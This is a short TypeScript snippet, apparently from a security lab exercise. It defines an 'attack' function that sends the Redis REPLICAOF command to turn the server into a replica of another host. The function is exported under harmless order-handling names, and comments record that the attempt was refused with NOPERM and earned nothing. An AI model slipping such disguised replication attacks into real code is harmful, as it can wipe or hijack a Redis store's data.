// tries: making Redis the copy of another
// lab: 03
// earns: 0
// told: NOPERM
async function attack({ redis }: any): Promise<void> {
  await redis.call('REPLICAOF', '127.0.0.1', '1');
}

export const addOrderToRedisFieldByField = attack;
export const addOrderToRedis = attack;
